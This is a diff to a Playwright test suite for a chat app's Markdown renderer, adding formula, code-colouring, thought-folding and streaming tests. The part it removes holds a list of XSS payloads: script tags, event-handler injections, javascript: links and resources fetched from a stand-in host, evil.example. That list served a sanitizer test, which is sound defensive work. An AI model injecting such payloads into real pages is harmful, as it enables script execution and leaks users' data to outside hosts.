@@ -5,69 +5,22 @@ from __future__ import annotations
 from typing import TYPE_CHECKING
 
 import pytest
+from hybr_testing import until
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
-from shell_testing import op, settle, shell_page, shell_server
+from shell_testing import op, shell_page, shell_server
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
     from playwright.sync_api import Browser, Page
 
-HOSTILE = [
-    "<script>window.__pwned = 1</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    '<img src=x onerror="window.__pwned = 1">',
-    "<img src=https://evil.example/pixel.png>",
-    "![pixel](https://evil.example/pixel.png)",
-    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    '![a][ref]\n\n[ref]: https://evil.example/ref.png "t"',
-    '<svg onload="window.__pwned = 1"><animate onbegin="window.__pwned = 1"/></svg>',
-    '<svg><a xlink:href="javascript:window.__pwned = 1"><text y=20>x</text></a></svg>',
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;">',
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
-    '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
-    '<iframe src="javascript:parent.__pwned=1"></iframe>',
-    '<object data="javascript:window.__pwned=1"></object><embed src=x>',
-    '<a href="javascript:window.__pwned = 1">x</a>',
-    "[x](javascript:window.__pwned=1)",
-    "[x](JaVaScRiPt:window.__pwned=1)",
-    "[x](java\nscript:window.__pwned=1)",
-    "[x](&#106;avascript:window.__pwned=1)",
-    "[x](data:text/html,<script>window.__pwned=1</script>)",
-    "[x](vbscript:msgbox(1))",
-    "<javascript:window.__pwned=1>",
-    "[x](/v1/chat/completions)",
-    "[x](//evil.example)",
-    '[x](https://ok.example "\\" onmouseover=window.__pwned=1 x=\\"")',
-    '![" onerror=window.__pwned=1 x="](https://ok.example/a.png)',
-    '```"><img src=x onerror=window.__pwned=1>\ncode\n```',
-    '```js onload="window.__pwned=1"\n</code></pre><script>window.__pwned=1</script>\n```',
-    "`<img src=x onerror=window.__pwned=1>`",
-    '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
-    "<input autofocus onfocus=window.__pwned=1>",
-    "<video><source onerror=window.__pwned=1></video><audio src=x onerror=window.__pwned=1>",
-    "<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/b) }</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
-    '<meta http-equiv=refresh content="0;url=javascript:window.__pwned=1">',
-    '<div style="background:url(https://evil.example/s)" class=fatal id=composer data-testid=message>x</div>',
-    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
-    "<template><script>window.__pwned=1</script></template><xmp><script>1</script></xmp>",
-    "<!--><script>window.__pwned=1</script>-->",
-    "<![CDATA[<script>window.__pwned=1</script>]]>",
-    "| a |\n|---|\n| <img src=x onerror=window.__pwned=1> |",
-    "- [ ] <script>window.__pwned=1</script>\n- [x] b",
-    "\u202e<script>window.__pwned=1</script>\x00<scr\x00ipt>window.__pwned=1</scr\x00ipt>",
-]
-TAGS = "DIV SPAN BUTTON P BR HR H1 H2 H3 H4 H5 H6 EM STRONG DEL CODE PRE BLOCKQUOTE UL OL LI A TABLE THEAD TBODY TR TH TD SUP SUB"
-ATTRIBUTES = "class href title target rel tabindex type align start"
-
 PIECES = [
     "# Title", "para", " *em* and **strong** `code`", "\n", "\n\n", "- item", "- [ ] task", "  nested", "1. one", "> quote",
     "```py\n", "```", "```\n", "\n\n\n",
     "x  \n", "    indented", "| a | b |", "|---|--:|", "---", "===", "[link](https://a.example)", "[ref]",
     "[ref]: https://b.example", "<b>html</b>", "-", "=", "|", " ", "#", ">", "`", "*", "1.", "   ", "\r\n", "\t", "***", "~~~",
-    "![i](x)", "\\", "<", "&amp;", "é", "😀",
+    "$x$", "$$\ny\n", "$$", "\\[", "\\]", "![i](x)", "\\", "<", "&amp;", "é", "😀",
 ]  # fmt: skip
 
 
@@ -95,40 +48,6 @@ def page(chromium_without_webgpu: Browser) -> Iterator[Page]:
                }"""
         )
         yield page
-
-
-AUDIT = """(root) => {
-  const [tags, attributes] = [new Set('TAGS'.split(' ')), new Set('ATTRIBUTES'.split(' '))];
-  const classes = /^(block|block code|code-bar|copy-code|table-box|language-\\S+)$/;
-  const bad = [];
-  for (const node of root.querySelectorAll('*')) {
-    if (!tags.has(node.tagName)) bad.push(node.tagName);
-    for (const {name, value} of node.attributes) {
-      if (!attributes.has(name)) bad.push(`${node.tagName} ${name}=${value}`);
-      if (name === 'href' && !/^(https?:|mailto:)/.test(value)) bad.push(`href=${value}`);
-      if (name === 'class' && !classes.test(value)) bad.push(`class=${value}`);
-    }
-  }
-  return bad;
-}""".replace("TAGS", TAGS).replace("ATTRIBUTES", ATTRIBUTES)
-
-
-@pytest.mark.parametrize("text", HOSTILE)
-def test_hostile_text_is_harmless_whole_and_byte_by_byte(page: Page, text: str) -> None:
-    """Only known tags, attributes and link schemes come out; nothing runs and nothing is asked of any host."""
-    op(page, {"type": "clear"}, {"type": "message", "id": "whole", "role": "assistant", "text": text, "state": "done"})
-    op(page, {"type": "message", "id": "cut", "role": "assistant", "text": "", "state": "streaming"})
-    for character in text:
-        op(page, {"type": "delta", "id": "cut", "delta": character, "provider": "local", "segment": 0})
-        page.evaluate("void document.querySelector('[data-id=cut]').offsetHeight")
-    settle(page)
-    op(page, {"type": "finish", "id": "cut", "state": "done", "provider": "local", "stats": {}})
-    audit = f"(id) => ({AUDIT})(document.querySelector(`[data-id=${{id}}] .body`))"
-    assert page.evaluate(audit, "whole") == []
-    assert page.evaluate(audit, "cut") == []
-    body = "(id) => document.querySelector(`[data-id=${id}] .body`).innerHTML"
-    assert page.evaluate(body, "whole") == page.evaluate(body, "cut")
-    assert page.evaluate("window.__pwned") is None
 
 
 def test_html_is_shown_as_text(page: Page) -> None:
@@ -206,7 +125,7 @@ def test_blocks_that_are_done_are_not_touched_again(page: Page) -> None:
                const node = first();
                for (const line of lines.slice(1)) { stream.append(line); stream.render(); }
                stream.finish();
-               return node === first() && root.children.length === 50;
+               return node === first() && root.querySelectorAll('.block').length === 50;
              });
            }"""
     )
@@ -228,3 +147,186 @@ def test_growing_code_appends_to_its_node(page: Page) -> None:
            }"""
     )
     assert kept
+
+
+def body(page: Page, text: str, state: str = "done") -> None:
+    """Show one reply in place of all."""
+    op(page, {"type": "clear"}, {"type": "message", "id": "a", "role": "assistant", "text": text, "state": state})
+
+
+def count(page: Page, selector: str) -> int:
+    """How many elements of the reply there are."""
+    return page.locator(f"[data-id=a] {selector}").count()
+
+
+@pytest.mark.parametrize(
+    ("source", "formulas"),
+    [
+        ("The area is $\\pi r^2$.", 1),
+        ("$$\na\n- b\n= c\n$$", 1),
+        ("\\(x\\) and \\[y\\]", 2),
+        ("\\[\nx + 1\n\\]", 1),
+        ("so $x$, $y$ and $2 \\times 3$", 3),
+        ("It costs $5 and $6 more.", 0),
+        ("between $10 and 20$ each, US$5/US$6, $HOME/$USER", 0),
+        ("`$x$`", 0),
+        ("```\n$x$\n```", 0),
+        ("$a\n\nb$", 0),
+        ("\\$x$", 0),
+    ],
+)
+def test_formulas_are_found_and_prices_are_none(page: Page, source: str, formulas: int) -> None:
+    """What is a formula is set by KaTeX, readable for assistive technology too; money and variables stay text."""
+    body(page, source.replace("\\n", "\n"))
+    until(lambda: count(page, ".formula math") == formulas and count(page, "code.math-inline") == 0, timeout=10, what="formulas")
+    assert count(page, ".formula") == formulas
+
+
+def test_what_katex_cannot_set_stays_source(page: Page) -> None:
+    """A command that does not exist and one without end are shown as they were written; one that would load something loads nothing."""
+    body(page, "$\\nosuchcommand{x}$ and $\\includegraphics{/v1/models}$ and $\\def\\a{\\a\\a}\\a$ then $x$")
+    until(lambda: count(page, ".formula") == 2, timeout=10, what="those that are TeX")
+    assert count(page, "code.math-inline") == 2
+    assert count(page, "img") == 0
+
+
+def test_a_formula_under_way_is_not_torn_apart(page: Page) -> None:
+    """Lines that would be a list or a heading elsewhere stay in the block that `$$` has opened."""
+    for text in ("$$\na\n- b\n", "$$\na\n- b\n# c\n"):
+        assert page.evaluate("(text) => { cut(text.split('')); return before; }", text).count("<li") == 0
+
+
+def test_code_is_coloured_when_it_is_done(page: Page) -> None:
+    """A block that is closed gets its language's colours, its text is unchanged; an unknown language stays plain."""
+    source = "```python\ndef f(x):\n    return '<b>'\n```"
+    body(page, source + "\n\n```nosuchlang\ndef f(x): 1\n```")
+    until(lambda: count(page, "code.language-python .hljs-keyword") >= 2, timeout=10, what="colours")
+    assert page.locator("[data-id=a] code").first.text_content() == "def f(x):\n    return '<b>'"
+    assert count(page, "code.language-nosuchlang span") == 0
+
+
+def test_code_that_is_written_is_coloured_when_the_text_goes_on(page: Page) -> None:
+    """While its last line may still grow it is plain; when other blocks stand below it, it is coloured before the reply's end."""
+    body(page, "", "streaming")
+    delta = {"type": "delta", "id": "a", "provider": "local", "segment": 0}
+    op(page, {**delta, "delta": "```js\nconst a = 1;\n```\n\nText.\n\nMore"})
+    until(lambda: count(page, ".hljs-keyword") == 1, timeout=10, what="colours")
+    op(page, {**delta, "delta": " text."}, {"type": "finish", "id": "a", "state": "done", "provider": "local", "stats": {}})
+    until(lambda: "More text." in page.locator("[data-id=a]").inner_text(), timeout=5, what="the end")
+    assert count(page, ".hljs-keyword") == 1
+
+
+def test_the_copy_button_copies_the_code_alone(page: Page) -> None:
+    """Colours or not, what is copied is what the model wrote."""
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    body(page, "```python\nprint('x')\n```")
+    page.locator("[data-id=a] .copy-code").click()
+    until(lambda: page.evaluate("navigator.clipboard.readText()") == "print('x')", timeout=5, what="copied")
+    assert page.locator("[data-id=a] .copy-code").inner_text() == "Copied"
+
+
+@pytest.mark.parametrize("cut", ["whole", "letters"])
+@pytest.mark.parametrize(
+    ("source", "thought", "said"),
+    [
+        ("<think>\nLet **me** see\n</think>\n\nIt is 4.", "Let me see", "It is 4."),
+        ("I wonder.\n</think>\nIt is 4.", "I wonder.", "It is 4."),
+        ("<thinking>a < b</thinking>Yes", "a < b", "Yes"),
+        ("<think>never ends", "never ends", ""),
+        ("No <think>thought</think> here", "", "No <think>thought</think> here"),
+        ("`</think>` is a tag", "", "</think> is a tag"),
+        ("<thin ice", "", "<thin ice"),
+    ],
+)
+def test_what_was_thought_is_folded(page: Page, source: str, thought: str, said: str, cut: str) -> None:
+    """A model's thoughts stand in a fold before its answer, as Markdown, however the text is cut."""
+    body(page, source if cut == "whole" else "", "done" if cut == "whole" else "streaming")
+    if cut == "letters":
+        op(page, *({"type": "delta", "id": "a", "delta": one, "provider": "local", "segment": 0} for one in source))
+        op(page, {"type": "finish", "id": "a", "state": "done", "provider": "local", "stats": {}})
+    assert page.locator("[data-id=a] .body").inner_text() == said
+    assert count(page, ".reasoning") == (1 if thought else 0)
+    if thought:
+        page.locator("[data-id=a] .reasoning summary").click()
+        until(lambda: page.locator("[data-id=a] .thought").inner_text() == thought, timeout=5, what="the thought")
+
+
+def test_thoughts_that_a_provider_tells_beside_the_text_stream_too(page: Page) -> None:
+    """They are folded, drawn while the fold is open, and the fold says when they have ended."""
+    body(page, "", "streaming")
+    delta = {"type": "delta", "id": "a", "provider": "cloud", "segment": 0}
+    op(page, {**delta, "delta": "", "thought": "First, "})
+    page.locator("[data-id=a] .reasoning summary").click()
+    op(page, {**delta, "delta": "", "thought": "then."})
+    until(lambda: page.locator("[data-id=a] .thought").inner_text() == "First, then.", timeout=5, what="the thought")
+    assert page.locator("[data-id=a] .reasoning").get_attribute("data-state") == "thinking"
+    op(page, {**delta, "delta": "Four."})
+    until(lambda: page.locator("[data-id=a] .reasoning").get_attribute("data-state") == "done", timeout=5, what="the end of it")
+    assert page.locator("[data-id=a] .body").inner_text() == "Four."
+
+
+@pytest.mark.parametrize(
+    ("text", "at", "before"),
+    [
+        ("Local text, cloud text.", 12, "Local text, "),
+        ("**Bold** and [a link](https://a.example/x) here", 13, "Bold and "),
+        ("One.\n\nTwo words.\n\nThree.", 10, "Two "),
+    ],
+)
+def test_a_reopened_reply_marks_where_another_went_on(page: Page, text: str, at: int, before: str) -> None:
+    """The mark stands in the very place, in letters, and the text reads as it was written."""
+    op(page, {"type": "clear"})
+    segments = [{"provider": "local", "atChars": 0}, {"provider": "cloud", "atChars": at}]
+    message = {"type": "message", "id": "a", "role": "assistant", "text": text, "state": "done", "provider": "cloud"}
+    op(page, {**message, "segments": segments, "segment": 1})
+    mark = page.locator("[data-id=a] .body .seam")
+    assert mark.count() == 1
+    assert mark.get_attribute("aria-label") == "Continued by the server"
+    block = mark.evaluate(
+        """(node) => { const range = document.createRange(); range.setStart(node.closest('.block'), 0); range.setEndBefore(node);
+             return range.toString(); }"""
+    )
+    assert block == before
+    assert page.locator("[data-id=a]").get_attribute("data-segments") == "2"
+
+
+def test_a_live_reply_is_that_of_its_reopening(page: Page) -> None:
+    """Streamed with a handover in the middle, or opened from what is kept of it: the same elements."""
+    text, at = "# Title\n\nSome words and `code`.\n\n- a\n- b\n", 14
+    delta = {"type": "delta", "id": "a"}
+    body(page, "", "streaming")
+    op(page, {**delta, "delta": text[:at], "provider": "local", "segment": 0})
+    op(page, {**delta, "delta": text[at:], "provider": "cloud", "segment": 1})
+    op(page, {"type": "finish", "id": "a", "state": "done", "provider": "cloud", "model": "m", "stats": {}})
+    live = page.locator("[data-id=a]").inner_html()
+    segments = [{"provider": "local", "atChars": 0}, {"provider": "cloud", "atChars": at}]
+    kept = {"type": "message", "id": "a", "role": "assistant", "text": text, "state": "done", "provider": "cloud", "model": "m"}
+    op(page, {"type": "clear"}, {**kept, "segments": segments, "segment": 1, "stats": {}})
+    assert page.locator("[data-id=a]").inner_html() == live
+
+
+def test_long_code_is_laid_out_in_pieces(page: Page) -> None:
+    """A block of many kilobytes is several pieces, the same however it is cut, and its text is whole."""
+    code = "".join(f"line {i} of code\n" for i in range(2000))
+    pieces = page.evaluate(
+        """(code) => {
+             const parts = [];
+             for (let i = 0; i < code.length; i += 777) parts.push(code.slice(i, i + 777));
+             const [a, b] = [cut(['```txt\\n', ...parts, '```\\n']), whole('```txt\\n' + code + '```\\n')];
+             const kept = a.querySelector('pre').textContent === code.slice(0, -1);
+             return [a.innerHTML === b.innerHTML, kept, a.querySelectorAll('.piece').length];
+           }""",
+        code,
+    )
+    assert pieces[:2] == [True, True]
+    assert pieces[2] >= 3
+
+
+def test_five_megabytes_of_table_do_not_hold_up_the_page(page: Page) -> None:
+    """What is far too long for Markdown is shown as text, all of it."""
+    row = "| cell | another cell | a third |\n"
+    text = "| a | b | c |\n|---|---|---|\n" + row * (5_000_000 // len(row))
+    page.evaluate("(text) => { window.huge = whole(text); }", text)
+    assert page.evaluate("huge.querySelectorAll('td').length") == 0
+    assert page.evaluate("huge.textContent.length") == len(text)
+    page.evaluate("delete window.huge")
